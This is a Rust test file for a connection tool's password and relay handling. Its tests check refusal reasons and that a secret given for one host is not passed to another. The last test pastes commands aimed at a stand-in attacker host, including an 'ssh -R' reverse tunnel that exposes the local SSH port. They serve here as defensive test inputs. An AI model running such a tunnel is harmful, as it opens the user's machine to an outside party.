//! What is said, and what may be said once more.

use moorline_model::session_key::SessionKey;

use super::*;

#[test]
fn an_announcement_that_is_not_to_be_believed_is_refused() {
    let kid = SessionKey::random(1).unwrap().id();
    let mut play = Play::new(&format!("ml1.{}.abc.def\n{NO_PASSWORD}", kid.as_str()));
    let why = "it is too old".to_owned();
    play.fact(|need| matches!(need, Need::Announcement).then(|| Fact::NotAnnounced(why.clone())));
    assert_eq!(play.refuses(), Reason::Announcement(why));
}

#[test]
fn no_reason_is_a_dead_end() {
    let print = key(1).fingerprint();
    let name = || "colab".parse::<Alias>().unwrap();
    let text = String::new;
    for reason in [
        Reason::Unusable(text()),
        Reason::Announcement(text()),
        Reason::UnknownGoogleRuntime,
        Reason::RelayIsSession("r".parse().unwrap()),
        Reason::RelayNotNeeded(text()),
        Reason::NoRelay,
        Reason::NotWritable(text()),
        Reason::NotTheNamedKey { name: name(), endpoint: text(), seen: print, named: text() },
        Reason::KeyChanged(print),
        Reason::Overtaken(text()),
        Reason::Expired,
    ] {
        assert!(reason.remedies().contains(&Remedy::PasteAgain), "{reason:?}");
    }
}

#[test]
fn an_echo_that_comes_back_edited_keeps_its_password() {
    let mut play = Play::new(A);
    assert!(play.talk.password().is_some());
    let echo = moorline_paste::redacted(A);
    play.talk.take_text(SecretString::from(echo), true);
    assert!(play.talk.password().is_some(), "it was read once, and is not in the echo");
    play.talk.start_again(known("", &[]));
    assert!(play.talk.password().is_none(), "thrown away");
}

#[test]
fn what_was_given_for_one_way_goes_along_to_no_other() {
    // A relay's password, typed for one relay.
    let mut play = Play::new(RELAY);
    play.answers = Err(NotSeen::RelayWantsLogin);
    assert!(matches!(play.go().asks(), Question::RelayLogin { .. }));
    play.say(Answer::RelayPassword(TypedSecret::from("for-home-only")));
    for replaces in [false, true] {
        play.talk.take_text(SecretString::from("ssh -fNT -R 7423:127.0.0.1:22 me@evil.example"), replaces);
        assert!(play.talk.relay_password().is_none(), "replaced: {replaces}");
    }
    // A runtime's, pasted and typed.
    for replaces in [false, true] {
        let mut play = Play::new(A);
        play.talk.take_text(SecretString::from("ssh -p 4444 root@evil.example"), replaces);
        assert!(play.talk.password().is_none(), "pasted; replaced: {replaces}");
        let mut play = Play::new(NO_PASSWORD);
        play.say(Answer::Password(TypedSecret::from("for-this-only")));
        play.talk.take_text(SecretString::from("ssh -p 4444 root@evil.example"), replaces);
        assert!(play.talk.password().is_none(), "typed; replaced: {replaces}");
        // Another user of the same machine is another one, too.
        let mut play = Play::new(A);
        play.talk.take_text(SecretString::from("ssh -p15873 ada@0.tcp.eu.ngrok.io"), replaces);
        assert!(play.talk.password().is_none(), "another user; replaced: {replaces}");
    }
}
